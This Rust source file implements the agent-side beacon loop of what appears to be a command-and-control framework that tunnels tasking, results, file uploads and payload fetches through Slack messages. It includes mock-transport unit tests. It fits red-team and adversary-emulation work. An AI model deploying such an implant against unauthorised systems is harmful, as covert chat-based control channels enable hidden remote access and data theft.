//! Agent-side session loop
//!
//! A [`BeaconSession`] owns one negotiated channel and the agent profile,
//! and exposes the per-cycle operations the host binary drives: beacon,
//! report, upload, and payload fetch.

use std::time::Duration;

use bytes::Bytes;
use palaver_proto::{AgentProfile, ExecutionResult};
use palaver_slack::{ChatChannel, NegotiationCriteria};
use tracing::info;

use crate::error::PalaverError;

/// One agent's connection to its channel.
///
/// Generic over the channel so tests can hold a concrete channel type and
/// reach its scripted transport; the host uses the boxed trait object the
/// factory hands out.
pub struct BeaconSession<C: ChatChannel + ?Sized = dyn ChatChannel> {
    profile: AgentProfile,
    channel: Box<C>,
}

impl<C: ChatChannel + ?Sized> BeaconSession<C> {
    /// Create a session over a resolved channel
    pub fn new(channel: Box<C>, profile: AgentProfile) -> Self {
        Self { profile, channel }
    }

    /// Negotiate the channel before the first beacon.
    ///
    /// On success the profile carries an identifier, assigned here if it
    /// had none.
    pub async fn negotiate(&mut self, criteria: &NegotiationCriteria) -> Result<(), PalaverError> {
        let outcome = self.channel.negotiate(&mut self.profile, criteria).await?;
        if outcome.assigned_id.is_some() {
            info!("Negotiated channel with new identifier {}", self.profile.paw);
        } else {
            info!("Negotiated channel as agent {}", self.profile.paw);
        }
        Ok(())
    }

    /// Run one beacon cycle; `Ok(None)` means a quiet cycle
    pub async fn cycle(&self) -> Result<Option<Bytes>, PalaverError> {
        Ok(self.channel.beacon(&self.profile).await?)
    }

    /// Report this cycle's execution results
    pub async fn report(&self, results: Vec<ExecutionResult>) -> Result<(), PalaverError> {
        Ok(self.channel.send_results(&self.profile, results).await?)
    }

    /// Upload a file through the channel
    pub async fn upload(&self, filename: &str, data: &[u8]) -> Result<(), PalaverError> {
        Ok(self.channel.upload_file(&self.profile, filename, data).await?)
    }

    /// Fetch a server-staged payload by name
    pub async fn fetch_payload(&self, name: &str) -> Result<Option<Bytes>, PalaverError> {
        Ok(self.channel.fetch_payload(&self.profile, name).await?)
    }

    /// The agent profile as currently negotiated
    pub fn profile(&self) -> &AgentProfile {
        &self.profile
    }

    /// How long the host sleeps between cycles
    pub fn cadence(&self) -> Duration {
        Duration::from_secs(self.profile.sleep_seconds)
    }

    /// The channel this session runs over
    pub fn channel(&self) -> &C {
        &self.channel
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use palaver_slack::test_utils::MockTransport;
    use palaver_slack::{SlackChannel, SlackConfig};

    fn session() -> BeaconSession<SlackChannel<MockTransport>> {
        let mut config = SlackConfig::for_channel("C01TEST");
        config.poll_wait = Duration::from_millis(1);
        let channel = SlackChannel::with_transport(config, MockTransport::new());
        BeaconSession::new(Box::new(channel), AgentProfile::new("", 45))
    }

    #[tokio::test]
    async fn test_negotiation_fills_profile() {
        let mut session = session();
        assert!(!session.profile().has_identity());

        session
            .negotiate(&NegotiationCriteria::with_secret("xoxb-key"))
            .await
            .unwrap();
        assert!(session.profile().has_identity());
        assert_eq!(session.channel().config().bearer_token, "xoxb-key");
    }

    #[tokio::test]
    async fn test_cadence_follows_profile() {
        let session = session();
        assert_eq!(session.cadence(), Duration::from_secs(45));
    }

    #[tokio::test]
    async fn test_cycle_delivers_instructions() {
        let mut session = session();
        session
            .negotiate(&NegotiationCriteria::with_secret("xoxb-key"))
            .await
            .unwrap();

        let paw = session.profile().paw.clone();
        session.channel().transport().queue_history(format!(
            r#"{{"ok":true,"messages":[{{"text":"instructions-{paw} | Z28=","ts":"1.1"}}]}}"#
        ));

        let instructions = session.cycle().await.unwrap().unwrap();
        assert_eq!(&instructions[..], b"go");
    }

    #[tokio::test]
    async fn test_report_flows_through_channel() {
        let mut session = session();
        session
            .negotiate(&NegotiationCriteria::with_secret("xoxb-key"))
            .await
            .unwrap();

        session
            .report(vec![ExecutionResult::new("link-1", "b3V0", 0)])
            .await
            .unwrap();
        assert_eq!(
            session
                .channel()
                .transport()
                .posted_bodies("chat.postMessage")
                .len(),
            1
        );
    }

    #[tokio::test]
    async fn test_session_over_trait_object() {
        let channel: Box<dyn ChatChannel> = Box::new(SlackChannel::with_transport(
            SlackConfig::for_channel("C01TEST"),
            MockTransport::new(),
        ));
        let session: BeaconSession = BeaconSession::new(channel, AgentProfile::new("paw1", 30));
        assert_eq!(session.channel().name(), "slack");
    }
}
